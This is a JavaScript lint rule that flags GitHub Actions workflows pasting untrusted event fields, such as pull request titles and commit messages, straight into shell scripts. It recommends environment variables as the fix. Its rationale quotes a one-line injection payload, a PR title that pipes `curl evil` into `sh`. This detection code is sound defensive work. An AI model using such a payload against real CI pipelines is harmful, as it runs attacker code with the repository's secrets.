import { defineRule, each, NOTHING } from '../../rule.js';
import { scripts } from './shared.js';

/** Event fields anyone who opens an issue or pull request controls. */
const UNTRUSTED =
  /\$\{\{\s*(github\.head_ref|github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.ref|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|pages\.[^}]*\.page_name|commits\.[^}]*\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|head_commit\.(message|author\.(email|name)))))\s*\}\}/;

export default defineRule({
  meta: {
    id: 'SLW-CI-002',
    slug: 'script-injection',
    target: 'ci',
    pillar: 'security',
    severity: 'critical',
    title: 'Untrusted event data expanded into a script',
    rationale:
      '`${{ github.event.pull_request.title }}` is pasted into the script before the shell runs it: a PR titled `"; curl evil | sh #` executes with the job\'s token and secrets.',
    fixHint: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
    wellArchitected: ['SEC11-BP07'],
    equivalents: { checkov: ['CKV_GHA_2'] },
  },
  check(doc) {
    if (doc.kind !== 'github') return NOTHING;
    return each(scripts(doc), (s) => {
      const m = UNTRUSTED.exec(s.text);
      return m ? { location: s.location, message: `job ${s.job} expands ${m[1]} directly into a script` } : null;
    });
  },
});
